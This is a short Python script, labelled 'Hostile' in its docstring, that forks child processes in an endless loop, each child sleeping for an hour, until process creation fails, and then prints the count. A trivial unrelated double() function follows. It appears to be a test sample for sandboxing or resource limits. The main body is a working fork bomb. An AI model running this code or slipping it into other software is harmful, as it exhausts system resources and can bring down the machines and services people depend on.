"""Hostile: fork until the machine falls over; children sleep forever."""
import os
import time

children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork stopped after", children, type(error).__name__)


def double(x):
    return 2 * x
